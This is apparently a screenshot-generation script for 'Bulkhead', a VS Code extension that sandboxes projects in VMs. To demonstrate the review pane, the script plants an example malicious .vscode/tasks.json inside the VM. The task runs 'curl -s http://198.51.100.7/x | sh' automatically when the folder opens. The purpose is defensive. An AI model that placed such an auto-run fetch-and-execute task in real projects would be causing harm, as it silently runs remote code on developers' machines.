// npm run pictures: takes the README's pictures of every view, dark and light, of a real machine in a real VS Code.
// Look at them before you commit them: docs/images/<view>-<theme>.png.
import { execFile, execFileSync, spawn } from 'node:child_process';
import { cp, mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { bulkheadCli } from './harness/bulkheadCli.mjs';
import { openChromium } from './harness/chromium.mjs';
import { finished, prepareCodeServer } from './harness/codeServer.mjs';
import { TreeView } from './harness/treeView.mjs';
import { Workbench } from './harness/workbench.mjs';
import { ensureCodeServer, findChromium } from './setup.mjs';

const ROOT = fileURLToPath(new URL('../..', import.meta.url));
const IMAGES = join(ROOT, 'docs/images');
const THEMES = { dark: 'Dark 2026', light: 'Light 2026' };
const only = process.argv.slice(2);

const temporary = await mkdtemp(join(tmpdir(), 'bulkhead-pictures-'));
const env = { XDG_DATA_HOME: join(temporary, 'data'), BULKHEAD_BUILD_NETWORK: 'host' };
const cli = bulkheadCli(env);
/** @type {(() => unknown)[]} last first */
const cleanups = [() => rm(temporary, { recursive: true, force: true })];

try {
  await mkdir(IMAGES, { recursive: true });
  for (const step of ['build', 'package']) {
    await finished(
      spawn('npm', ['run', '--silent', step], { cwd: ROOT, stdio: 'ignore' }),
      `npm run ${step}`,
    );
  }
  const folder = join(temporary, 'node-service');
  await cp(join(ROOT, 'examples/node-service'), folder, { recursive: true });
  const settings = join(folder, '.bulkhead.json');
  await writeFile(
    settings,
    (await readFile(settings, 'utf8')).replace('"cpus": 2,', '"cpus": 2,\n  "forwardPorts": [3000],'),
  );
  execFileSync('git', ['init', '-q', '-b', 'main', folder]);
  execFileSync('git', ['-C', folder, 'add', '-A']);
  const author = ['-c', 'user.name=Ada', '-c', 'user.email=ada@example.org'];
  execFileSync('git', ['-C', folder, ...author, 'commit', '-q', '-m', 'A service that counts']);
  const { id, workspace } = JSON.parse(await cli.must(['up', folder, '--json', '--allow-ports']));
  cleanups.unshift(() => cli.run(['rm', id, '--force']));
  const other = join(temporary, 'suspicious-package');
  await cp(join(ROOT, 'examples/bare'), other, { recursive: true });
  const second = JSON.parse(await cli.must(['up', other, '--json']));
  cleanups.unshift(() => cli.run(['rm', second.id, '--force']));
  await cli.must(['suspend', second.id]);

  // Something to see: a server, and now and then some work.
  const load =
    'while :; do timeout 3 sh -c "while :; do :; done"; sleep 3; dd if=/dev/zero of=/tmp/x bs=1M count=20 2>/dev/null; done';
  for (const script of ['cd src && exec node server.js', load]) {
    const child = execFile(
      process.execPath,
      [join(ROOT, 'dist/cli.js'), 'exec', id, '--', 'sh', '-c', script],
      {
        env: { ...process.env, ...env },
      },
    );
    child.on('error', () => undefined);
    cleanups.unshift(() => child.kill('SIGKILL'));
  }

  const prepared = await prepareCodeServer({
    codeServer: await ensureCodeServer(),
    folder: join(temporary, 'vscode'),
    env,
    settings: {
      'workbench.colorTheme': THEMES.dark,
      'workbench.layoutControl.enabled': false,
    },
  });
  await prepared.install(join(ROOT, 'dist/bulkhead.vsix'));
  const server = await prepared.start();
  const browser = await openChromium(await findChromium());
  cleanups.unshift(
    () => browser.close(),
    () => server.stop(),
  );
  const { page } = browser;
  await page.setViewportSize({ width: 1440, height: 960 });
  const window = new Workbench(page, server.url);
  /** @param {string} name of a view in the activity bar, clicked unless it is open */
  const show = async (name) => {
    const action = page
      .locator(`.activitybar .action-item:has(a.action-label[aria-label^="${name}"])`)
      .first();
    if ((await action.getAttribute('aria-selected')) !== 'true') {
      // Its badge may lie over it.
      await action.locator('a.action-label').click({ force: true });
    }
  };
  /** Types into a quick pick that has just been asked for. @param {string} text */
  const type = async (text) => {
    const input = page.locator(
      '.quick-input-widget:visible input.input:not([placeholder^="Search files by name"])',
    );
    await input.waitFor();
    await page.waitForTimeout(1500);
    await input.fill(text);
  };
  const quiet = async () => {
    await window.runCommand('Notifications: Clear All Notifications').catch(() => undefined);
    await page.mouse.move(700, 300);
  };

  /** @type {Record<string, () => Promise<unknown>>} what brings a view up, and is undone by Escape or the next one */
  const views = {
    cockpit: async () => {
      await show('Bulkhead');
      await window.runCommand('Bulkhead: Go to File in VM…');
      await type('server.js');
      await window.quickPickRow('server.js').waitFor();
      await page.keyboard.press('Enter');
      await window.tab('server.js').waitFor();
      await window.runCommand('Bulkhead: Open Terminal in VM');
      await window.typeInTerminal('uname -a; id -un');
      await page.waitForTimeout(20_000);
    },
    network: async () => {
      await cli.must(['net', id, 'allowlist']);
      // Names that exist nowhere: no rule allows them, so they are not even looked up.
      for (const host of ['registry.example.test', 'cdn.example.test', 'telemetry.example.test']) {
        await cli.run(['exec', id, '--', '/.bulkhead/bin/busybox', 'wget', '-q', '-O-', `http://${host}/`]);
      }
      await show('Bulkhead');
      for (const pane of ['Machines', 'Resources', 'Ports', 'Review']) {
        const header = page.locator(`.pane-header[aria-label^="${pane}"][aria-expanded="true"]`);
        if ((await header.count()) > 0) {
          await header.first().click();
        }
      }
      await window.runCommand('Bulkhead: Focus on Network View');
      await page.locator('.monaco-list-row[aria-label*="telemetry.example.test"]').first().waitFor();
      await page.waitForTimeout(2500);
    },
    actions: async () => {
      await window.runCommand('Bulkhead: Machine Actions…');
    },
    find: async () => {
      await window.runCommand('Bulkhead: Find in Files in VM…');
      await type('count');
      await page.waitForTimeout(4000);
    },
    'source-control': async () => {
      await cli.exec(
        id,
        'sh',
        '-c',
        `cd ${workspace} && git checkout -q src/server.js && sed -i 's|visits:|count:|' src/server.js && touch notes.txt`,
      );
      await show('Source Control');
      await page.locator('.scm-view .monaco-list-row', { hasText: 'server.js' }).dblclick();
      await page.waitForTimeout(4000);
      await page.mouse.move(700, 600);
    },
    review: async () => {
      // Somebody's package has left something behind; and both sides have worked on one file.
      const attack =
        '{ "version": "2.0.0", "tasks": [{ "label": "build", "type": "shell", "command": "curl -s http://198.51.100.7/x | sh", "runOptions": { "runOn": "folderOpen" } }] }';
      await cli.exec(
        id,
        'sh',
        '-c',
        `cd ${workspace} && sed -i 's|visits:|count:|' src/server.js && echo 'To do' > notes.txt && mkdir -p .vscode .git/hooks && echo '${attack}' > .vscode/tasks.json && printf '#!/bin/sh\\nnode src/server.js &\\n' > start.sh && chmod +x start.sh && (grep -q 'by path' src/counter.js || sed -i '1i // Counts visits, by path.' src/counter.js)`,
      );
      const counter = await readFile(join(ROOT, 'examples/node-service/src/counter.js'), 'utf8');
      await writeFile(join(folder, 'src/counter.js'), `${counter}\n// Written on this computer.\n`);
      await window.runCommand('Bulkhead: Bring Changes Back…');
      const tree = new TreeView(page, 'Review');
      await tree.row('.vscode/tasks.json').waitFor({ timeout: 120_000 });
      for (const title of ['Machines', 'Network', 'Resources', 'Ports']) {
        await new TreeView(page, title).collapse().catch(() => undefined);
      }
      await tree.expand('server.js');
      await tree.row('server.js').click();
      await page.locator('.monaco-diff-editor').waitFor();
      await page.waitForTimeout(4000);
    },
    merge: async () => {
      const tree = new TreeView(page, 'Review');
      await tree.row('src/counter.js').click();
      await window.pick('Merge by Hand');
      await page.locator('.merge-editor').waitFor();
      await page.waitForTimeout(4000);
    },
    settings: async () => {
      await writeFile(
        join(folder, '.bulkhead.json'),
        '{\n  "cpu": 2,\n  "memory": "2 gigs",\n  "network": { "mode": "none" }\n}\n',
      );
      await window.runCommand('Bulkhead: Open Settings File');
      await page.waitForTimeout(3000);
      await window.runCommand('Problems: Focus on Problems View');
      await page.waitForTimeout(1500);
    },
    'check-system': async () => {
      await window.runCommand('Bulkhead: Check System');
      await page.waitForTimeout(15_000);
    },
    resources: async () => {
      await window.runCommand('Bulkhead: Open Resources in Editor');
      await page.waitForTimeout(8000);
    },
    walkthrough: async () => {
      await window.runCommand('Welcome: Open Walkthrough...');
      await window.pick('Get Started with Bulkhead');
      await page.waitForTimeout(3000);
    },
  };

  for (const [theme, label] of Object.entries(THEMES)) {
    await prepared.setting('workbench.colorTheme', label);
    await window.open(`bulkhead://${id}${workspace}`);
    await window.statusSays('running', 300_000);
    for (const [name, open] of Object.entries(views)) {
      if (only.length === 0 || only.includes(name)) {
        await take(name, theme, open);
      }
    }
  }

  /** @param {string} name @param {string} theme @param {() => Promise<unknown>} open */
  async function take(name, theme, open) {
    await window.hidePanel();
    await quiet();
    await window.runCommand('View: Close All Editors').catch(() => undefined);
    try {
      await open();
      await page.screenshot({ path: join(IMAGES, `${name}-${theme}.png`) });
      console.log(`${name}, ${theme}: taken`);
    } catch (error) {
      console.log(`${name}, ${theme}: ${error instanceof Error ? error.message : error}`);
      await page.screenshot({ path: join(temporary, '..', `picture-failed-${name}.png`) });
      process.exitCode = 1;
    }
    await page.keyboard.press('Escape');
  }
} finally {
  for (const cleanup of cleanups) {
    await cleanup();
  }
}
